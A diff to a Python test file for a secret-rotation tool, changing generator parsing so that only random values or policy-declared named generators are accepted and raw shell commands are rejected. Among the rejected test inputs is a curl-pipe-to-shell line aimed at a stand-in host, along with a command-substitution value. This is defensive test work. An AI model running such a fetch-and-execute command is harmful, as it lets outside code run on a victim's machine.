@@ -92,7 +92,7 @@ def test_one_trailing_newline_is_dropped():
 
 def test_random_generator():
     generator = parse_generator("random:32")
-    values = {generator.generate() for _ in range(50)}
+    values = {generator.generate({}) for _ in range(50)}
     assert len(values) == 50 and all(len(v) == 32 and set(v) <= set(ALPHABET) for v in values)
     assert generator.spec == "random:32"
 
@@ -103,8 +103,12 @@ def test_random_generator():
         ("random:8", "N from 16 to 4096"),
         ("random:x", "expected random:N"),
         ("random:", "expected random:N"),
-        ("", "--rotate-with is empty"),
-        ("'unclosed", "cannot split the command"),
+        ("", "expected random:N or generator:NAME"),
+        ("generator:Bad_Name", "expected random:N or generator:NAME"),
+        # A command is never stored with a secret (SPEC §3, §12): whoever sets a secret cannot make the
+        # admin who rotates it run something of theirs.
+        ("sh -c 'curl evil | sh'", "a command is never stored with a secret"),
+        ("echo rotated-$(date +%s)", "a command is never stored with a secret"),
     ],
 )
 def test_bad_generators(spec: str, message: str):
@@ -112,9 +116,20 @@ def test_bad_generators(spec: str, message: str):
         parse_generator(spec)
 
 
-def test_command_generator_takes_stdout_without_its_newline():
-    generator = parse_generator(f"{sys.executable} -c 'print(\"fresh-value\")'")
-    assert generator.kind == "command" and generator.generate() == "fresh-value"
+def test_a_generator_must_be_declared_in_the_applied_policy():
+    with pytest.raises(BadInput, match=r"generator:nope: no such generator in the applied policy \(declared: db\)"):
+        parse_generator("generator:nope", declared={"db": ["true"]})
+    assert parse_generator("generator:db", declared={"db": ["true"]}).spec == "generator:db"
+
+
+def test_a_named_generator_runs_the_policys_command_and_takes_stdout_without_its_newline():
+    generator = parse_generator("generator:fresh")
+    assert generator.generate({"fresh": [sys.executable, "-c", "print('fresh-value')"]}) == "fresh-value"
+
+
+def test_a_generator_missing_from_the_policy_when_it_runs_fails_clearly():
+    with pytest.raises(CheckFailed, match="generator 'gone' is not in the applied policy"):
+        parse_generator("generator:gone").generate({})
 
 
 @pytest.mark.parametrize(
@@ -125,12 +140,12 @@ def test_command_generator_takes_stdout_without_its_newline():
     ],
 )
 def test_a_failing_command_says_how_without_its_output(code: str, message: str):
-    generator = parse_generator(f'{sys.executable} -c "{code}"')
+    generator = parse_generator("generator:gen")
     with pytest.raises(CheckFailed, match=message) as caught:
-        generator.generate()
+        generator.generate({"gen": [sys.executable, "-c", code]})
     assert "leaked-value" not in caught.value.format_message()
 
 
 def test_a_missing_command_is_named():
     with pytest.raises(CheckFailed, match="rotation command 'no-such-rotator' not found"):
-        parse_generator("no-such-rotator --now").generate()
+        parse_generator("generator:gen").generate({"gen": ["no-such-rotator", "--now"]})
